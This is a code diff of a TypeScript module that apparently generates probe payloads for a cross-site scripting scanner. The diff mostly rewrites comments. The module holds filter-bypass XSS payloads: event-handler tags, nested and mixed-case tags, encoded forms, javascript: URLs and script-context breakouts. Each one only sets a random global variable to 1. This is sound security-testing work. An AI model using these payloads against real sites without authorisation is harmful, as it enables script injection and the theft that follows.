@@ -1,18 +1,15 @@
-/**
- * What is sent to show that a script could run. All that any of it would do is to set a global variable, named by a
- * random word, to 1.
- */
-import type { Reflection } from './reflection.ts';
+/** Payloads that show that a script could run. All that each would do is set a global variable with a random name to 1. */
+import type { Reflection } from './reflections.ts';
 import { assignment, spotOf } from './script-syntax.ts';
 
 export interface Payload {
-  /** @param word that the script would assign to */
+  /** @param word the variable that the script would assign to */
   write(word: string): string;
-  /** characters that have to come through as they are; of those that filters care about */
+  /** characters that have to arrive unchanged, of those that filters handle */
   needs: string;
 }
 
-/** Characters whose coming through is looked at. A space after `<` keeps it from looking like a tag. */
+/** Characters that are sent to see which of them arrive. The space after `<` keeps it from looking like a tag. */
 export const SPECIAL = `>"'\`/\\()&;=[]{}$:< `;
 const CARED_FOR = /[<>"'`\\=[\](){}$;:&]/g;
 
@@ -21,23 +18,23 @@ const payload = (write: Payload['write'], decodes = false): Payload => ({
   needs: decodes ? '' : [...new Set(write('x').match(CARED_FOR) ?? [])].join(''),
 });
 
-/** Elements that run a script as soon as they are there; the plainest first, then what gets past a filter. */
+/** Elements that run a script as soon as they are parsed: plain ones first, then those that pass filters. */
 const ELEMENTS: readonly Payload[] = [
   payload((x) => `<svg onload=${x}=1>`),
   payload((x) => `<img src onerror=${x}=1>`),
   payload((x) => `<script>${x}=1</script>`),
-  // for lists of what is forbidden, in lower case and with spaces
+  // for blocklists in lower case, or with a space
   payload((x) => `<sVg/oNloAd=${x}=1>`),
   payload((x) => `<details open ontoggle=${x}=1>`),
-  // for filters that take away once what they look for
+  // for filters that remove what they look for once
   payload((x) => `<scr<script>ipt>${x}=1//</scr</script>ipt>`),
   payload((x) => `<<a>svg onload=${x}=1>`),
   payload((x) => `<svg oonloadnload=${x}=1>`),
   payload((x) => `<svg ona=onload=${x}=1>`),
-  // for those that look for a whole tag: the page's next one ends it
+  // for filters that look for complete tags: the next tag of the page completes it
   payload((x) => `<svg onload=${x}=1 `),
 ];
-/** For what is decoded once more on its way into the page. */
+/** For values that are decoded once more on their way into the page. */
 const DECODED: readonly Payload[] = [
   payload((x) => `&lt;svg onload=${x}=1&gt;`, true),
   payload((x) => `%3Csvg onload=${x}=1%3E`, true),
@@ -46,10 +43,10 @@ const DECODED: readonly Payload[] = [
 const after = (prefix: string, list: readonly Payload[]): Payload[] =>
   list.map(({ write }) => payload((x) => prefix + write(x)));
 
-/** Characters of a script that is read once for each payload, while nothing else is done. */
+/** Characters of a script that is parsed for each payload on the main thread. Payloads for longer scripts are not filtered. */
 const MAX_TRIED_HERE = 30_000;
 
-/** In the order in which they are to be tried. @param isXml whether the page is one of XML */
+/** In the order in which to try them. @param isXml whether the page is XML */
 export function payloadsFor(reflection: Reflection, isXml: boolean): Payload[] {
   if (isXml) return reflection.in === 'text' ? [payload(XML_SCRIPT)] : [];
   switch (reflection.in) {
@@ -83,7 +80,7 @@ export function payloadsFor(reflection: Reflection, isXml: boolean): Payload[] {
 
 const XML_SCRIPT = (x: string) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${x}=1</x:script>`;
 
-/** Attributes besides, in the page's own tag; whatever follows goes into one that nobody knows. */
+/** More attributes in a tag of the page. An unknown attribute takes the text that follows. */
 function handlers(quote: string): Payload[] {
   const rest = quote === '' ? '' : `x=${quote}`;
   const value = quote === '' ? 'x' : '';
@@ -93,7 +90,7 @@ function handlers(quote: string): Payload[] {
   ];
 }
 
-/** Where the value is the beginning of an address. */
+/** For values at the beginning of a URL. */
 function addresses(element: string, name: string): Payload[] {
   if (element === 'script' && name === 'src') return [payload((x) => `data:text/javascript,${x}=1`)];
   if (!['href', 'xlink:href', 'action', 'formaction', 'src'].includes(name)) return [];
@@ -103,14 +100,14 @@ function addresses(element: string, name: string): Payload[] {
     payload((x) => `javascript:${x}=1`),
     payload((x) => `JaVaScRiPt:${x}=1`),
     payload((x) => `java\tscript:${x}=1`),
-    // for those who want to see an address with a host
+    // for filters that expect a URL with a host
     payload((x) => `javascript://x.example/%0a${x}=1`),
   ];
 }
 
 /**
- * What leaves the text, comment or expression that the word stands in, without breaking the script: an error in one
- * place, and nothing of it runs. Each is tried here, before the site is asked.
+ * Payloads that leave the string, comment or expression around the word. A syntax error anywhere keeps the script from
+ * running, so that each payload is parsed in place before it is sent.
  */
 function scriptPayloads({ code, element }: Extract<Reflection, { in: 'script' }>): Payload[] {
   const word = WORD.exec(code)?.[0];
@@ -120,7 +117,7 @@ function scriptPayloads({ code, element }: Extract<Reflection, { in: 'script' }>
     payload((x) => `${quote}+[${x}=1]+${quote}`),
     payload((x) => `${quote};${x}=1;${quote}`),
     payload((x) => `${quote}+[${x}=1]${closers}//`),
-    // where quotes are escaped and backslashes are not
+    // where quotes are escaped, but backslashes are not
     payload((x) => `\\${quote}+[${x}=1]${closers}//`),
     ...(element
       ? []
@@ -159,7 +156,7 @@ function scriptPayloads({ code, element }: Extract<Reflection, { in: 'script' }>
   });
 }
 
-/** What `mark` put in: told from everything else by its beginning. */
+/** Words that `mark` made, recognized by their beginning. */
 const WORD = /zq[\da-z]{8}/i;
-/** A word that `scriptPayloads` finds again. @param random ten characters */
+/** Makes a word that `scriptPayloads` finds again. @param random ten characters */
 export const mark = (random: string): string => `zq${random.slice(2)}`;
